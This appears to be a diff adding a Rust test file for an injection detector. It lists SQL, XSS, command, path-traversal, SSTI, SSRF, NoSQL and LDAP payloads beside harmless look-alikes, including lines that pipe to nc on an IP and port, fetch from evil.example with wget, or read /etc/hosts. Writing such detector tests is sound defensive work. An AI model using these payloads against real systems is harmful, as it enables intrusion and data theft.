@@ -1,0 +1,254 @@
+#![allow(
+    clippy::unwrap_used,
+    clippy::indexing_slicing,
+    reason = "a test that fails should stop there"
+)]
+
+use proptest::prelude::*;
+
+use super::*;
+
+/// Attacks, each beside what looks like it and is none. All are written for this test.
+const PAIRS: &[(&str, &[&str], &[&str])] = &[
+    (
+        "sqli",
+        &[
+            "7 OR 3=3",
+            "' or 'q'='q",
+            "x') or ('z'='z",
+            "9 UNION ALL SELECT name, pass FROM staff",
+            "9/**/uNiOn/**/sElEcT/**/1,2",
+            "lee'; DROP TABLE bills; --",
+            "4 AND SLEEP(9)",
+            "4; WAITFOR DELAY '0:0:9'--",
+            "root'-- ",
+            "' || (select secret from vault) || '",
+            "5 order by 12--",
+        ],
+        &[
+            "O'Brien & Sons; Ltd",
+            "Please select a colour from the list",
+            "rock 'n' roll or jazz",
+            "a union of workers selected their speaker",
+            "5' 11\" and 6' 2\"",
+            "order by Friday, or by Monday at the latest",
+            "drop the table off at 5; insert coins",
+            "let total = price - discount; // 1 or 2",
+        ],
+    ),
+    (
+        "xss",
+        &[
+            "<script>steal()</script>",
+            "<details open ontoggle=go()>",
+            "<svg/onload=go()>",
+            "\" autofocus onfocus=go() x=\"",
+            "javascript:go()",
+            "<a href=\"java&#x09;script:go()\">x</a>",
+            "<iframe src=//evil.example>",
+            "%3Cimg%20src%3Dx%20onerror%3Dgo()%3E",
+            "';alert(7)//",
+        ],
+        &[
+            "a < b && c > d",
+            "I <3 you",
+            "Vec<String> is a list of strings",
+            "<b>bold</b> and <i>not</i>",
+            "once = 1, online = true",
+            "JavaScript: the good parts",
+        ],
+    ),
+    (
+        "command",
+        &[
+            "a.png; cat /etc/hosts",
+            "x | nc 10.9.8.7 4444",
+            "$(whoami)",
+            "`id`",
+            "x\nwget http://evil.example/a",
+            "w'h'oami && x",
+            "cat${IFS}/etc/hosts",
+            "& type c:\\secret.txt",
+        ],
+        &[
+            "R&D budget",
+            "fish & chips; salt & vinegar",
+            "cats; dogs; more cats",
+            "Find the sort of thing you like; date it",
+            "Use `find` and `cat` to look at files in the folder",
+            "C# developer",
+        ],
+    ),
+    (
+        "path",
+        &[
+            "../../secret",
+            "..%252f..%252fsecret",
+            "%2e%2e/%2e%2e/secret",
+            "..\\..\\secret",
+            "....//....//secret",
+            "%c0%ae%c0%ae/secret",
+        ],
+        &["and so on... / or not", "v1.2..v1.3", "a/b/c.txt", "wait...what", "docs/guide.md"],
+    ),
+    (
+        "ssti",
+        &["{{8*8}}", "${8*8}", "<%= 8*8 %>", "#{8*8}", "{{ x.__class__ }}"],
+        &["{{ name }}", "${HOME}/bin", "{ a: 1 }", "50% off {today}"],
+    ),
+    (
+        "ssrf",
+        &[
+            "http://127.0.0.1/admin",
+            "http://2130706433/",
+            "http://0x7f.1/",
+            "http://[::1]:80/",
+            "http://169.254.169.254/latest/",
+            "gopher://mail.example:25/_x",
+        ],
+        &["https://example.com/page", "see http://localhost in the guide", "10:30 at 127 Main St"],
+    ),
+    (
+        "nosqli",
+        &["{\"$ne\": null}", "user[$gt]=", "{\"age\": {\"$regex\": \".*\"}}"],
+        &["costs $5", "{\"price\": \"$5\"}", "array[0]=1"],
+    ),
+    (
+        "ldap",
+        &["*)(uid=*", "x)(|(cn=*))", "(&(cn=a)(sn=*))"],
+        &["(see below)", "f(x)(y)", "5 * (3 + 2) = 25"],
+    ),
+];
+
+#[test]
+fn attacks_are_told_from_what_looks_like_them() {
+    let inspector = Inspector::default();
+    let mut wrong = Vec::new();
+    for (kind, attacks, innocent) in PAIRS {
+        for attack in *attacks {
+            let found = inspector.inspect(attack, Channel::Param);
+            if found.verdict != "threat" || !found.kinds.contains(kind) {
+                wrong.push(format!("{kind} missed: {attack} {found:?}"));
+            }
+        }
+        for value in *innocent {
+            let found = inspector.inspect(value, Channel::Param);
+            if found.verdict != "clean" {
+                wrong.push(format!("{kind} imagined: {value} {found:?}"));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn evidence_says_where_and_behind_which_layers() {
+    let found = Inspector::default().inspect("q=%2527%2520or%25201=1--", Channel::Param);
+    assert_eq!(found.kinds, ["sqli"]);
+    assert_eq!(found.evidence[0].decoded, ["url", "url"]);
+    assert_eq!(found.evidence[0].span.0, 2);
+    assert!(found.evidence[0].span.1 <= 24);
+}
+
+#[test]
+fn base64_that_stands_alone_is_opened() {
+    use base64::Engine as _;
+    let hidden = base64::engine::general_purpose::STANDARD.encode("x' or 'a'='a' --");
+    let found = Inspector::default().inspect(&hidden, Channel::Param);
+    assert_eq!((found.verdict, &*found.evidence[0].decoded), ("threat", &["base64"][..]));
+}
+
+/// What is written to keep readers busy.
+const BUSY: &[&str] = &[
+    "'",
+    "\"",
+    "<",
+    "<a ",
+    "<a b='",
+    "<script",
+    "(",
+    "((",
+    ")(",
+    "$(",
+    "`",
+    "{{",
+    "${",
+    "/*",
+    "--\n",
+    "' or ",
+    "union select ",
+    "(select ",
+    ";drop table ",
+    "../",
+    "..",
+    "..%2f",
+    "%25",
+    "&#x26;",
+    "\\u005c",
+    "on",
+    " onload=(",
+    "javascript:",
+    "data:text/html",
+    "$ne",
+    "a=",
+    "eval(",
+    "x`",
+    "return",
+    "<!--#",
+    "<style>",
+    "<svg>",
+    "style=url(",
+    "sleep(",
+    "*)(",
+    "; cat ",
+    "\n",
+    "\nto:",
+    "%c0%ae",
+    "{%",
+    "#{",
+    "@(",
+    "[[",
+    "db.",
+    "O:1:",
+    "for ",
+    "alert(",
+    "'+alert(",
+    "\0/",
+    "a'b'c",
+];
+
+/// Steps are counted, not time: reading twice as much takes twice as many.
+#[test]
+fn reading_stays_linear_whatever_is_written() {
+    for busy in BUSY {
+        let count = |length: usize| {
+            let value = busy.repeat(length / busy.len());
+            let steps = Cell::new(0);
+            counted(&value, Channel::Param, &steps);
+            steps.get()
+        };
+        let (half, whole) = (count(64 << 10), count(128 << 10));
+        assert!(whole <= half * 2 + 4096, "{busy:?}: {half} steps, then {whole}");
+        assert!(whole <= 24 * (128 << 10), "{busy:?}: {whole} steps");
+    }
+}
+
+proptest! {
+    #[test]
+    fn no_value_stops_the_inspector(value in "\\PC{0,200}") {
+        let found = Inspector::default().inspect(&value, Channel::Text);
+        prop_assert!((0.0..=1.0).contains(&found.score));
+    }
+
+    #[test]
+    fn spans_are_within_the_value(
+        parts in prop::collection::vec(prop::sample::select(BUSY), 0..12),
+        noise in "[ -~\\n]{0,40}",
+    ) {
+        let value = parts.concat() + &noise;
+        let found = Inspector::default().inspect(&value, Channel::Param);
+        for held in found.evidence {
+            prop_assert!(held.span.0 <= held.span.1 && held.span.1 <= value.len(), "{held:?}");
+        }
+    }
+}
